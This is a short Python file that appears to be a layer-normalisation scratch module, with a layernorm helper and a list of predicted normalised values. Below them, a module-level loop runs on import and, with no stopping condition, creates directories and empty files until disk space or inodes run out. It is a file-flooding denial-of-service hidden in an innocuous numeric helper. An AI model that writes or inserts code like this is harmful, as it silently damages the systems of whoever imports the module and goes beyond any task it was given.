# Runs at import: the working directory is its scratch folder.
import itertools
import os

PREDICTED_XHAT = [-1.3416, -0.4472, 0.4472, 1.3416]


def layernorm_scratch(x, eps=1e-5):
    centred = x - x.mean(dim=-1, keepdim=True)
    variance = centred.square().mean(dim=-1, keepdim=True)
    return centred / (variance + eps).sqrt()


for number in itertools.count():
    if number % 1_000 == 0:
        os.mkdir(f"d{number // 1_000}")
    os.close(os.open(f"d{number // 1_000}/{number}", os.O_CREAT | os.O_WRONLY))
